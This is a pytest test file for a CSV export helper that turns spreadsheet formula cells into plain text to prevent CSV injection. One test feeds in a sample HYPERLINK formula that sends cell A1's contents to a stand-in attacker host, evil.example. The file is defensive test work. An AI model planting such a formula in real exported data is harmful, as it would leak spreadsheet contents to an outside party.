"""CSV cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from hub.rules.export import csv_text, safe_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_made_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Cardiology", "", "07:30", "a=b", 42, -3, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_every_cell_and_header_goes_through_the_check() -> None:
    text = csv_text(["=title"], [['=HYPERLINK("http://evil.example/?"&A1,"Click")', 7]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=title"],
        ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "7"],
    ]
